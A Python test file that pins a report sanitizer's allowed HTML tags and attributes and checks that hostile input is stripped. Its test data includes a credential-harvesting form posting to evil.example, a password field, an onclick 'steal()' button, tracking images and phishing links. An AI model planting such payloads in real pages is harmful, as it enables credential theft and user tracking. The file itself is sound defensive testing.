"""The report HTML sanitizer's allowlist, pinned: a change to it is a decision, made here."""

from __future__ import annotations

import re

import pytest

from chalicelib.reports.render import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, to_safe_html


def test_the_allowed_tags_are_exactly_these() -> None:
    assert {
        "p", "br", "strong", "em", "b", "i", "ul", "ol", "li", "blockquote", "code", "pre",
        "h3", "h4", "h5", "table", "thead", "tbody", "tr", "th", "td", "hr", "sup", "sub",
    } == ALLOWED_TAGS  # fmt: skip


def test_the_allowed_attributes_are_exactly_a_table_cells_alignment() -> None:
    assert {"th": {"align"}, "td": {"align"}} == ALLOWED_ATTRIBUTES


def _tags(html: str) -> set[str]:
    return {name.lower() for name in re.findall(r"<\s*([A-Za-z][\w-]*)", html)}


def _attributes(html: str) -> set[str]:
    return {
        name.lower()
        for tag in re.findall(r"<[A-Za-z][^>]*>", html)
        for name in re.findall(r"\s([A-Za-z][\w:-]*)=", tag)
    }


FORM = (
    '<form action="https://evil.example/collect" method="post"><label>Account</label>'
    '<input name="account" value="x"><textarea name="t">secret</textarea>'
    "<select name=s><option>one</option></select><button type=submit>Send</button>"
    "<fieldset><legend>L</legend></fieldset><output>o</output></form>"
)


@pytest.mark.parametrize(
    "hostile",
    [
        FORM,
        '<input type="password" name="p">',
        '<button onclick="steal()">Claim</button>',
        "![chart](https://evil.example/track.png)",
        '<img src="/assets/app.css" alt="x">',
        '<picture><source srcset="https://e/x.webp"></picture>',
        "<svg><circle r=4 /></svg>",
        '<video src="https://e/v.mp4"></video><audio src="a.mp3"></audio>',
    ],
)
def test_form_controls_and_images_are_removed(hostile: str) -> None:
    html = to_safe_html(f"Before.\n\n{hostile}\n\nAfter.")
    assert _tags(html) <= ALLOWED_TAGS
    assert not _attributes(html) - {"align"}
    assert "Before." in html and "After." in html
    for gone in ("secret", "one", "Send", "https://", "evil.example"):
        assert gone not in html


@pytest.mark.parametrize(
    "link",
    [
        "[the regulator](https://evil.example/login)",
        "<https://evil.example>",
        '<a href="//evil.example/x">the regulator</a>',
        '<a href="http://evil.example">the regulator</a>',
        "[the regulator](mailto:someone@evil.example)",
        "[the regulator](/api/research/9900001/report)",  # relative, within the site
        "[the regulator](#risks)",  # within the page
    ],
)
def test_links_are_removed_and_their_text_kept(link: str) -> None:
    html = to_safe_html(f"Ask {link} first.")
    assert "<a" not in html and "href" not in html and "evil.example/" not in html
    assert html.startswith("<p>Ask ") and html.endswith(" first.</p>")
    if "regulator" in link:
        assert "the regulator" in html


def test_a_table_keeps_its_alignment_and_nothing_else() -> None:
    html = to_safe_html('| A | B |\n|:--|--:|\n| 1 | 2 |\n\n<td align="evil" style="x">3</td>')
    assert '<th align="left">A</th>' in html and '<td align="right">2</td>' in html
    assert 'align="evil"' not in html and "style" not in html
    assert _tags(html) <= ALLOWED_TAGS


def test_everything_the_allowlist_keeps_survives() -> None:
    text = (
        "### Heading\n\n#### Sub\n\n##### Small\n\n**strong** *em* `code` <b>b</b> <i>i</i> "
        "x<sup>2</sup> H<sub>2</sub>O  \nnext line\n\n- one\n- two\n\n1. first\n\n> quoted\n\n"
        "    preformatted\n\n---\n\n| A |\n|---|\n| 1 |"
    )
    assert _tags(to_safe_html(text)) == ALLOWED_TAGS
